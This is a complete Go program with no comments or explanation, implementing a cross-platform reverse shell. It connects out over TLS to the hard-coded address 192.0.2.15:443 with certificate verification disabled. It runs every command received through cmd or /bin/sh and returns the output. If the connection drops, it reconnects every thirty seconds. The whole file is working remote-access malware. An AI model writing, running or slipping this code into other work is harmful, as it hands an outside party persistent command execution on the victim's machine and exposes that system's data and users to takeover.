package main

import (
	"bufio"
	"crypto/tls"
	"os/exec"
	"runtime"
	"time"
)

const addr = "192.0.2.15:443"

func shell() (string, string) {
	if runtime.GOOS == "windows" {
		return "cmd", "/C"
	}
	return "/bin/sh", "-c"
}

func session() error {
	conn, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	defer conn.Close()
	bin, flag := shell()
	sc := bufio.NewScanner(conn)
	for sc.Scan() {
		out, err := exec.Command(bin, flag, sc.Text()).CombinedOutput()
		if err != nil {
			out = append(out, err.Error()...)
		}
		conn.Write(append(out, '\n'))
	}
	return sc.Err()
}

func main() {
	for {
		_ = session()
		time.Sleep(30 * time.Second)
	}
}
